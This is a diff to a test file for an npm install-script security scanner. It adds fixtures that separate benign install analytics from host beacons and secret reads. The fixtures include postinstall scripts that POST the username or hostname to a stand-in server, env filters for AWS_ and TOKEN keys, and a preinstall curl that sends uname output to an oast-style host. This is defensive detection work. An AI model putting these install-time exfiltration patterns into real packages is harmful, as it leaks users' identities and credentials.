@@ -367,6 +367,62 @@ https.get('https://storage.example.com/driver/' + platform + '/driver.zip', (res
     expect(['none', 'low']).toContain(r.level);
   });
 
+  // The shape of an install-analytics package (scarf): the user name only names a per-user temp
+  // file, and a separate request posts platform details. Reading the host and using the network is
+  // not sending the one over the other.
+  const analytics = (body: string) => `const os = require('os');
+const fs = require('fs');
+const path = require('path');
+const https = require('https');
+function historyFile() {
+  const who = os.userInfo().username;
+  return path.join(os.tmpdir(), \`stats-history-\${who}.log\`);
+}
+function remember(entry) {
+  fs.appendFileSync(historyFile(), JSON.stringify(entry) + '\\n');
+}
+function report() {
+  const info = ${body};
+  const data = JSON.stringify(info);
+  const req = https.request({ hostname: 'stats.example.org', method: 'POST', path: '/install', headers: { 'Content-Type': 'application/json' } }, () => {});
+  req.write(data);
+  req.end();
+  remember({ at: Date.now() });
+}
+report();
+`;
+  const analyticsPackage = (body: string) => run(fixture('install-stats', { scripts: { postinstall: 'node ./stats.js' } }, { 'stats.js': analytics(body) }));
+
+  it('a user name read for a temp-file name next to an unrelated analytics POST of platform details is not a beacon (scarf)', () => {
+    const r = analyticsPackage("{ platform: os.platform(), arch: os.arch(), node: process.versions.node }");
+    const beacon = r.findings.find((f) => f.messageId === 'hostBeacon');
+    expect(beacon?.weight, JSON.stringify(r.findings, null, 1)).toBeLessThan(installScripts.meta.options.parse({}).hostBeaconWeight);
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('the same analytics code putting the user name or hostname into the POSTed body is a beacon', () => {
+    for (const body of ["{ platform: os.platform(), user: os.userInfo().username }", "{ platform: os.platform(), host: os.hostname() }"]) {
+      const r = analyticsPackage(body);
+      expect(r.findings.find((f) => f.messageId === 'hostBeacon')?.weight, body).toBe(installScripts.meta.options.parse({}).hostBeaconWeight);
+      expect(['high', 'critical']).toContain(r.level);
+    }
+  });
+
+  it("a tool collecting its own settings by prefix (_.pickBy(process.env, by 'CYPRESS_')) is not reading secrets", () => {
+    const code = (predicate: string) => `const _ = require('lodash');
+const isOwn = ${predicate};
+const vars = _.pickBy(process.env, isOwn);
+console.log('settings', Object.keys(vars).length);
+`;
+    const own = run(fixture('test-runner', { scripts: { postinstall: 'node info.js' } }, { 'info.js': code("(val, key) => key.startsWith('TESTRUNNER_')") }));
+    expect(own.ids).not.toContain('secretAccess');
+    expect(['none', 'low']).toContain(own.level);
+    // A credential-store prefix, or a predicate that does more than test the prefix, is still a read of secrets.
+    for (const predicate of ["(val, key) => key.startsWith('AWS_')", "(val, key) => key.startsWith('TESTRUNNER_') || /TOKEN/.test(key)"]) {
+      expect(run(fixture('test-runner', { scripts: { postinstall: 'node info.js' } }, { 'info.js': code(predicate) })).ids, predicate).toContain('secretAccess');
+    }
+  });
+
   it('uname -a or -n (the machine name) sent out at install is still a beacon', () => {
     for (const flags of ['-a', '-n', '-sn']) {
       const r = run(fixture('probe', { scripts: { preinstall: `curl -s "https://x.oast.example/?h=$(uname ${flags})"` } }));
